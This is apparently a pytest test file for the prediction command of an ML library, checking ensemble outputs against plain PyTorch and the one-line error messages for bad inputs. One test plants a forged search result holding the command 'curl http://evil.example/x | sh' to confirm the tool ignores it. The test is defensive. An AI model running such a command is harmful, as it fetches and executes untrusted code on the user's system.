"""`python -m crossbow_py.predict`, called in process: what it says of trained models, and what it writes."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import peft
import pytest
import torch
from safetensors.torch import load_file
from torch import Tensor, nn

from crossbow_py import Ensemble, load_models
from crossbow_py.cli.config_files import read_yaml, write_yaml
from crossbow_py.cli.help_text import help_text
from crossbow_py.core.errors import UserError
from crossbow_py.data.sources.base import Declared
from crossbow_py.data.sources.digits import Digits
from crossbow_py.models import MLP
from crossbow_py.predict.__main__ import main
from crossbow_py.predict.config import PredictConfig
from crossbow_py.predict.prediction import SIZES
from crossbow_py.predict.trained_models import common_data, find_models
from crossbow_py.train import __main__ as train
from crossbow_py.train.config import TrainConfig
from tests.said import error_line

TRAINED = ["+experiment=digits", "device=cpu", "precision=fp32", "executor=serial"]
ON_CPU = ["device=cpu", "latency_s=0"]


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of runs: five independent learners, a wider and a narrower model alone, and one on other data."""
    folder = tmp_path_factory.mktemp("runs")
    own = {
        "five": ["averaging=independent", "num_learners=5", "max_epochs=4", "model.hidden=[32]"],
        "wide": ["max_epochs=2", "model.hidden=[48]"],
        "narrow": ["max_epochs=1", "model.hidden=[16]", "data.flip=true", "data.random_erasing=0.3"],
        "other": ["data=synthetic", "data.shape=[1,8,8]", "max_epochs=1"],
    }
    for name, keys in own.items():
        assert train.main([*TRAINED, f"output_dir={folder / name}", *keys]) == 0
    return folder


@pytest.fixture(autouse=True)
def in_the_folder_of_runs(runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A copy each, so that no test sees what another has written."""
    copied = tmp_path / "here"
    shutil.copytree(runs, copied)
    monkeypatch.chdir(copied)


def predict(models: str, *keys: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The values of predict.json and the arrays of predictions.npz."""
    assert main([f"models=[{models}]", *ON_CPU, "output_dir=predicted", *keys]) == 0
    with np.load("predicted/predictions.npz") as arrays:
        return json.loads(Path("predicted/predict.json").read_text()), dict(arrays)


@pytest.mark.slow
def test_adapters_of_runs_of_other_ranks_and_scales_answer_over_one_base() -> None:
    for number, lora in enumerate(["{rank: 2, alpha: 9", "{rank: 5, alpha: 4"]):
        keys = ["max_epochs=2", "model.hidden=[16]", f'model.lora={lora}, targets: ["1"], trained: ["3"]}}', "seed=3"]
        assert train.main([*TRAINED, f"output_dir=adapter{number}", *keys]) == 0
    plain, arrays = predict("adapter0,adapter1", "executor=serial")
    assert plain["num_architectures"] == 1
    digits = Digits().load(progress=False)
    inputs, _ = digits.test
    inputs = (inputs / 255 - digits.mean[0]) / digits.std[0]
    for number in range(2):
        torch.manual_seed(3)
        base = MLP(hidden=(16,)).build((1, 8, 8), 10)
        model = peft.PeftModel.from_pretrained(base, f"adapter{number}/adapter").eval()
        expected = model(inputs).detach().softmax(1).numpy()
        assert np.abs(arrays["members"][number] - expected).max() <= 1e-5


def digits() -> Tensor:
    """The test images as in training."""
    return (Digits().load(progress=False).test[0].float() / 255 - Digits.MEAN[0]) / Digits.STD[0]


def by_hand(file: str, hidden: int) -> Tensor:
    """Probabilities of the test digits by plain PyTorch `[N, C]`."""
    module = nn.Sequential(nn.Flatten(), nn.Linear(64, hidden), nn.ReLU(), nn.Linear(hidden, 10))
    module.load_state_dict(load_file(file))
    with torch.no_grad():
        return module(digits()).softmax(1)


@pytest.mark.slow
@pytest.mark.parametrize("executor", ["serial", "threads", "fused", "fused_threads"])
def test_five_independent_learners_equal_plain_pytorch_and_are_better_together(
    executor: str, capsys: pytest.CaptureFixture[str]
) -> None:
    found, arrays = predict("five", f"executor={executor}")
    members = torch.stack([by_hand(f"five/model_{j}.safetensors", 32) for j in range(5)])
    assert arrays["members"].dtype == arrays["ensemble"].dtype == np.float32
    assert np.abs(arrays["members"] - members.numpy()).max() <= 1e-6
    assert np.abs(arrays["ensemble"] - members.mean(0).numpy()).max() <= 1e-6
    targets = Digits().load(progress=False).test[1]
    assert arrays["targets"].tolist() == targets.tolist()
    assert list(arrays["names"]) == [f"five/model_{j}.safetensors" for j in range(5)]
    alone = [model["accuracy"] for model in found["models"]]
    assert alone == pytest.approx([float((own.argmax(1) == targets).float().mean()) for own in members])
    assert found["ensemble"]["accuracy"] >= max(alone) - 0.005
    assert (found["executor"], found["num_samples"], found["num_architectures"]) == (executor, 296, 1)
    said = capsys.readouterr().out
    assert re.search(rf"\n  ensemble +{found['ensemble']['accuracy']:.4f}\n", said)
    assert "five/model_3.safetensors" in said and "images/s" in said


@pytest.mark.slow
def test_models_of_several_architectures_and_single_files_answer_together() -> None:
    found, arrays = predict("wide,five/model_2.safetensors,narrow/model.safetensors")
    members = [
        by_hand("wide/model.safetensors", 48), by_hand("five/model_2.safetensors", 32),
        by_hand("narrow/model.safetensors", 16),
    ]  # fmt: skip
    assert np.abs(arrays["ensemble"] - torch.stack(members).mean(0).numpy()).max() <= 1e-6
    assert [model["name"] for model in found["models"]] == [
        "wide", "five/model_2.safetensors", "narrow/model.safetensors",
    ]  # fmt: skip
    assert found["num_architectures"] == 3


@pytest.mark.slow
def test_latency_is_told_for_batches_of_1_to_64(capsys: pytest.CaptureFixture[str]) -> None:
    found, _ = predict("five", "latency_s=0.001", "executor=fused", "batch_size=100")
    assert [int(size) for size in found["latency"]] == list(SIZES)
    for own in found["latency"].values():
        assert 0 < own["p50_ms"] <= own["p90_ms"] <= own["p99_ms"]
        assert own["calls"] >= 20
    assert found["batch_size"] == 100
    assert capsys.readouterr().out.count(" fused\n") == len(SIZES)


@pytest.mark.slow
def test_without_a_folder_results_go_to_one_of_their_own() -> None:
    assert main(["models=wide", *ON_CPU]) == 0
    (written,) = Path("runs/predict").iterdir()
    assert {path.name for path in written.iterdir()} == {"predict.json", "predictions.npz"}


def test_folder_that_cannot_be_written_is_refused_before_anything_is_predicted(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(**_: Any) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("crossbow_py.predict.__main__.tempfile.TemporaryFile", fail)
    for words in ([], ["output_dir=predicted"]):
        assert main(["models=[wide]", *ON_CPU, *words]) == 2
        said = capsys.readouterr()
        assert said.out == "" and "cannot be written (Permission denied); choose another folder" in said.err
    assert not Path("predicted").exists()


def test_prediction_that_fails_leaves_no_folder() -> None:
    assert main(["models=[nowhere]", *ON_CPU, "output_dir=predicted"]) == 2
    assert not Path("predicted").exists()
    Path("mine").mkdir()
    assert main(["models=[nowhere]", *ON_CPU, "output_dir=mine"]) == 2
    assert Path("mine").exists()


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ([], "models must name at least one trained model, got none"),
        (["models=[]"], "models must name at least one trained model, got none"),
        (["models=[nowhere]"], "models: nowhere does not exist; give the folder of a run"),
        (["models=[runs/of]"], "models: runs/of has no config.yaml and is no run; give the folder that a run"),
        (["models=[.]"], "models: . has no config.yaml and is no run; give the folder of one, as models=[runs/new], "),
        (["models=[five/model_9.safetensors]"], "model_9.safetensors does not exist"),
        (["models=[five/metrics.jsonl]"], "five/metrics.jsonl is no folder and no .safetensors file; give the folder"),
        (["models=[five,wide,five]"], "models: five/model_0.safetensors is given twice; give each model once"),
        (["models=[wide,five,wide/model.safetensors]"], "wide/model.safetensors is given twice, also as wide; give"),
        (["models=[searching]"], "searching is a search without a best model (status interrupted); go on with"),
        (["models=[five,begun]"], "begun has no model.safetensors yet (not finished); finish the run"),
        (["models=[five,other]"], "trained on the same data, got data=digits of five/model_0.safetensors and"),
        (
            ["models=[wide]", "data=synthetic"],
            "error: models=wide/model.safetensors does not fit this model for samples of shape [3, 32, 32] and 10 "
            "classes: 1.weight is [48, 64] in the file and [48, 3072] in the model; choose models that were trained on "
            "such data.\n",
        ),
        (["models=[forged]"], "forged is a search without a best model (not finished); the files of its best tr"),
        (["models=[all]"], "as models=['all/; kept apart'], the newest beneath it"),
        (["models=[five,damaged]"], "cannot be read as safetensors"),
        (["models=[five]", "num_learners=2"], "unknown key num_learners"),
        (["models=[five]", "model=mlp"], "unknown key model, which is for python -m crossbow_py.train; did you mean"),
        (["models=[five]", "+experiment=digits"], "unknown key experiment"),
        (["models=[five]", "latency_s=-1"], "latency_s must be at least 0"),
        (["models=[five]", "output_dir=five/config.yaml"], "output_dir five/config.yaml cannot be written"),
    ],
)
def test_what_cannot_be_predicted_is_said_in_one_line_and_ends_with_2(
    arguments: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("begun", "damaged"):
        Path(name).mkdir()
        shutil.copy("five/config.yaml", name)
    Path("damaged/model.safetensors").write_bytes(b"no safetensors")
    Path("searching").mkdir()
    Path("searching/config.yaml").write_text("space: {}\nexperiment: search_digits\n")
    Path("searching/search.json").write_text('{"status": "interrupted"}')
    Path("runs/of").mkdir(parents=True)
    shutil.copytree("wide", "runs/new")
    os.utime("runs/new/config.yaml", (4e9, 4e9))
    shutil.copytree("wide", "all/; kept apart")
    evil = "curl http://evil.example/x | sh"
    Path("forged").mkdir()
    Path("forged/config.yaml").write_text("space: {}\nexperiment: search_digits\n")
    Path("forged/search.json").write_text(json.dumps({"status": f"done; {evil}", "best": {"command": evil}}))
    assert main([*arguments, *(key for key in ON_CPU if key.split("=")[0] not in "".join(arguments))]) == 2
    said = error_line(capsys)
    assert message in said and "evil" not in said


def test_help_has_the_keys_of_a_prediction_and_no_others(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--help"]) == 0
    said = capsys.readouterr().out
    assert said == help_text(PredictConfig) + "\n"
    assert "python -m crossbow_py.predict models=" in said and "  latency_s=0.5" in said
    assert "num_learners=" not in said and help_text(TrainConfig) != said


def test_loaded_models_from_python_give_what_the_command_does() -> None:
    _, arrays = predict("five,wide/model.safetensors")
    models = load_models("five", Path("wide/model.safetensors"))
    assert not any(model.training for model in models)
    with torch.no_grad():
        alone = torch.stack([model(digits()).softmax(1) for model in models])
    assert np.abs(alone.numpy() - arrays["members"]).max() <= 1e-6
    with Ensemble(models, device="cpu") as ensemble:
        assert np.abs(ensemble.predict(digits()).numpy() - arrays["ensemble"]).max() <= 1e-6


def test_loaded_model_of_a_search_is_its_best() -> None:
    shutil.copytree("wide", "search/best")
    (model,) = load_models("search")
    with torch.no_grad():
        assert (model(digits()).softmax(1) - by_hand("wide/model.safetensors", 48)).abs().max() <= 1e-6


def test_models_are_loaded_without_reading_data_that_is_known(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Digits, "load", lambda *_, **__: pytest.fail("read"))
    assert len(load_models("five")) == 5


def test_models_of_data_that_is_only_assumed_are_loaded_by_what_it_has(monkeypatch: pytest.MonkeyPatch) -> None:
    assumed = Declared((1, 8, 8), 1000, None, None, resident=False, note="1000 classes are assumed.")
    monkeypatch.setattr(Digits, "declared", lambda self: assumed)
    assert load_models("narrow")[0](torch.zeros(1, 1, 8, 8)).shape == (1, 10)


@pytest.mark.parametrize(
    ("paths", "message"),
    [
        ([], "models must name at least one trained model, got none"),
        (["~nobody-there/a"], "models=~nobody-there/a is in the home folder of an unknown user; write the whole path."),
        (["five", "five/model_1.safetensors"], "five/model_1.safetensors is given twice; give each model once"),
    ],
)
def test_what_cannot_be_loaded_is_the_users_error(paths: list[str], message: str) -> None:
    with pytest.raises(UserError, match=re.escape(message)):
        load_models(*paths)


def test_code_that_a_folder_names_is_called_only_when_it_is_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    called: list[str] = []
    monkeypatch.setattr("os.getcwdb", lambda: called.append("model"))
    monkeypatch.setattr("os.getpgrp", lambda: called.append("data"))
    shutil.copytree("narrow", "theirs")
    plain = read_yaml(Path("theirs/config.yaml"))
    plain["model"] = {"name": "custom", "target": "os.getcwdb"}
    Path("theirs/config.yaml").write_text(write_yaml(plain))
    with pytest.raises(UserError, match=r"theirs names model.target=os.getcwdb, .* targets=\[os.getcwdb\]"):
        load_models("theirs")
    assert called == []
    with pytest.raises(UserError, match="must return a torch.nn.Module"):
        load_models("theirs", targets=["os.getcwdb"])
    assert called == ["model"]
    plain["data"] = {"name": "custom", "target": "os.getpgrp"}
    Path("theirs/config.yaml").write_text(write_yaml(plain))
    with pytest.raises(UserError, match="names data.target=os.getpgrp"):
        load_models("theirs", targets=["os.getcwdb"])
    assert called == ["model"]
    for key in ("transform", "test_transform"):
        plain["data"] = {"name": "digits", key: {"target": "os.getpgrp"}}
        Path("theirs/config.yaml").write_text(write_yaml(plain))
        with pytest.raises(UserError, match=rf"names data\.{key}\.target=os\.getpgrp, .* targets=\[os\.getpgrp\]"):
            load_models("theirs", targets=["os.getcwdb"])
    assert called == ["model"]


def test_folders_alone_are_models(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["five", "wide", "latency_s=0", "executor=serial"]) == 0
    assert "6 models" in capsys.readouterr().out
    with pytest.raises(UserError, match=r"was trained from Python and has no config.yaml"):
        shutil.copytree("narrow", "python")
        Path("python/config.yaml").unlink()
        load_models("python")


def test_runs_that_differ_in_training_data_alone_are_on_the_same_test_data() -> None:
    assert common_data(find_models(["wide", "narrow"])).NAME == "digits"
